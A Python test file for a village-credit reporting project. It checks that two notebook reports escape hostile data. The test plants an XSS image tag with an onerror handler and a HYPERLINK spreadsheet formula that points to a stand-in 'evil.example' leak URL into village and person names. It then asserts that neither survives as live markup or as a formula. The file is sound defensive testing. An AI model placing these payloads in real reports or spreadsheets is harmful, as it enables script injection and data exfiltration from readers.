"""Hostile text in a programme cannot turn the reports against their readers (issue 12 item 2).

A village name carrying ``<img src=x onerror=alert(1)>``, another and a person's name carrying
``=HYPERLINK(...)`` go through reports 01 and 06 end to end (Papermill, then the HTML export
without code). The HTML is parsed: no live element or event handler from the data; the
workbooks and CSV files written are parsed: no formula, no text cell starting with a formula
character.
"""
from __future__ import annotations

import csv
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from calib.report.excel import FORMULA_PREFIXES

ROOT = Path(__file__).resolve().parents[2]
XSS = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak","open")'


class _Live(HTMLParser):
    def __init__(self):
        super().__init__()
        self.live: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on") or (value or "").startswith("javascript:"):
                self.live.append(f"<{tag} {name}={value}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.live.append("<img src=x>")


def _hostile_programme(dst: Path) -> dict[str, str]:
    src = ROOT / "data" / "sample"
    roster = pd.read_csv(src / "roster.csv", dtype=str, encoding="utf-8-sig")
    villages = roster["行政村名称"].drop_duplicates().tolist()
    swap = {villages[0]: XSS, villages[1]: FORMULA}
    dst.mkdir()
    for f in src.glob("*.csv"):
        frame = pd.read_csv(f, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        for col in ("行政村名称", "village"):
            if col in frame.columns:
                frame[col] = frame[col].replace(swap)
        if f.name == "roster.csv":
            frame.loc[frame.index[:3], "姓名"] = FORMULA
        frame.to_csv(dst / f.name, index=False, encoding="utf-8-sig")
    return swap


def _run(nb: str, params_file: Path, out: Path) -> str:
    import nbformat
    import papermill as pm
    from nbconvert import HTMLExporter

    executed = out / f"{nb}.ipynb"
    pm.execute_notebook(str(ROOT / "notebooks" / f"{nb}.ipynb"), str(executed), kernel_name="python3",
                        parameters={"params_file": str(params_file), "out_dir": str(out), "run_id": "hostile"},
                        cwd=str(ROOT / "notebooks"), progress_bar=False)
    exp = HTMLExporter(template_name="lab")
    exp.exclude_input = True
    body, _ = exp.from_notebook_node(nbformat.read(str(executed), as_version=4))
    return body


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    _hostile_programme(tmp / "data")
    params = yaml.safe_load((ROOT / "params" / "sample.yaml").read_text(encoding="utf-8"))
    params["data_dir"] = str(tmp / "data")
    params["title"] = XSS
    pfile = tmp / "params.yaml"
    pfile.write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    out = tmp / "out"
    out.mkdir()
    pages = {nb: _run(nb, pfile, out) for nb in ("01_data_quality", "06_credit_villages")}
    return pages, out


def test_no_live_markup_from_the_data(hostile_run):
    pages, _ = hostile_run
    for nb, body in pages.items():
        p = _Live()
        p.feed(body)
        assert not p.live, f"{nb}: live markup from the data: {p.live[:3]}"
        assert XSS not in body
        assert "&lt;img src=x onerror=alert(1)&gt;" in body, f"{nb}: the planted village is not on the page"


def test_side_files_hold_no_formula(hostile_run):
    _, out = hostile_run
    books = sorted(out.rglob("*.xlsx"))
    sheets = sorted(out.rglob("*.csv"))
    assert books and sheets
    seen_payload = False
    for book in books:
        for ws in load_workbook(book).worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{book.name}!{c.coordinate} is a formula"
                    if isinstance(c.value, str):
                        assert not c.value.startswith(FORMULA_PREFIXES), f"{book.name}!{c.coordinate}: {c.value!r}"
                        seen_payload |= "HYPERLINK" in c.value
    for f in sheets:
        with open(f, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(FORMULA_PREFIXES), f"{f.name}: {cell!r}"
    assert seen_payload, "the planted formula reached no workbook: the test would not catch it"
